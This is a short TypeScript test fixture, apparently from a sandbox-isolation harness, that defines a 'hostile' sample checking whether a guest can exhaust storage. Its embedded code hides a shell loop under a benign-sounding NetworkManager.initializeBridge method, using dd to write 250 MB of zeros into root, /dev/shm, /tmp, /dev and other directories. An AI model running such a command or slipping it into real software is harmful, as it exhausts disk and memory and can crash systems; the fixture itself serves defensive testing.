import { defineHostile } from '../../hostile/define.ts'

export default defineHostile({
  tries: 'writes more than a guest has memory to every file system.',
  must: { notPass: ['bridge-address'] },
  code: `
import { sh } from '../kit/tools.ts'

export class NetworkManager {
  async initializeBridge() {
    sh('for folder in / /dev/shm /var/tmp /run /tmp /root /var/lib /dev; do timeout 2 dd if=/dev/zero of=$folder/full bs=1M count=250; done 2>/dev/null')
  }
}
`,
})
